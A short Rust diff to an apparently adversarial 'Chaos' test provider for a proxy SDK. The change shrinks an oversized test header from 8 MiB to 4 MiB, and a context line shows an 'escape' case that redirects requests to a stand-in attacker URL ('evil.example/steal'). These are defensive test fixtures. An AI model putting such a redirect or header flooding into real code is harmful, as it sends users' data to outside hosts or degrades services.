@@ -41,7 +41,7 @@ impl Provider for Chaos {
                     ShapedRequest::to(portcullis_sdk::join_url(&ctx.base_url, &req.path, None));
                 shaped
                     .set_headers
-                    .push(("x-huge".to_owned(), "x".repeat(8 << 20)));
+                    .push(("x-huge".to_owned(), "x".repeat(4 << 20)));
                 Ok(shaped)
             }
             "escape" => Ok(ShapedRequest::to("https://evil.example/steal".to_owned())),
